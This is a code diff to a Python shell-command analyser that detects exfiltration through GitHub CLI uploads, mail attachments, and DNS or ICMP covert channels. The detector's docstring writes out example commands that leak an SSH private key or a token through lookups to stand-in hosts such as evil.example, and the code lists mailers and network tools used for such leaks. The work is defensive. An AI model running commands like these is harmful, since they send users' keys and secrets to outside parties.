@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 
+from phlegyas.analysis.environment import secret_variables
 from phlegyas.analysis.paths import is_within, sensitive_reason
 from phlegyas.analysis.shell.invocation import Invocation
 from phlegyas.analysis.tier1.base import (
@@ -464,7 +465,49 @@ def _uploads(inv: Invocation) -> tuple[list[str], bool]:
         files = [w.text.split(":", 1)[1].split(",", 1)[0] for w in inv.args
                  if w.text.lower().startswith(("file:", "open:", "gopen:"))]
         return files, True
+    if prog == "gh":
+        return _gh_uploads([w.text for w in inv.args]), False
+    if prog in MAILERS:
+        texts = [w.text for w in inv.args]
+        return [texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("-a", "-A", "--attach")], True
     return [], True  # nc, ncat, netcat, telnet, openssl, ssh: whatever is on stdin
+
+
+MAILERS = frozenset({"mail", "mailx", "s-nail", "mutt", "neomutt", "sendmail", "msmtp", "ssmtp", "swaks"})
+
+
+def _gh_uploads(texts: list[str]) -> list[str]:
+    """Files ``gh`` sends to GitHub: ``gist create/edit`` files, ``release upload`` assets, body files,
+    ``api --input``/``-F key=@file``."""
+    words = [t for t in texts if not t.startswith("-")]
+    out = [texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("-F", "--body-file", "--input", "-a", "--add")
+           and not (t == "-F" and "=" in texts[i + 1] and "@" not in texts[i + 1])]
+    out = [o.split("=@", 1)[1] if "=@" in o else o for o in out]
+    if words[:2] in (["gist", "create"], ["gist", "new"]):
+        out.extend(w for w in words[2:] if w != "-")
+    elif words[:2] == ["release", "upload"]:
+        out.extend(words[3:])
+    return out
+
+
+def detect_covert_channel(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
+    """DNS and ICMP as a way out: ``host $(cat ~/.ssh/id_rsa | base64).x.example``, ``dig $TOKEN.evil.example``,
+    ``ping -p $(xxd -p key)``: a secret in a name looked up or a pattern sent reaches whoever runs that zone."""
+    env = env_for(inv, env)
+    for w in inv.args:
+        if not w.dynamic:
+            continue
+        got = _substituted_secret(w.text, env, whole_files=True)
+        if got is None:
+            names = secret_variables(w.text)
+            got = f"${names[0]}" if names else None
+        if got is not None:
+            add(out, "net.exfiltration", inv, f"{inv.program} sends {got} to the network in what it looks up or sends")
+            return
+
+
+COVERT_CHANNELS = ("host", "dig", "nslookup", "drill", "kdig", "delv", "resolvectl", "getent", "ping", "ping6",
+                   "traceroute", "tracepath", "whois", "nping", "hping3", "arping")
 
 
 def detect_upload(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
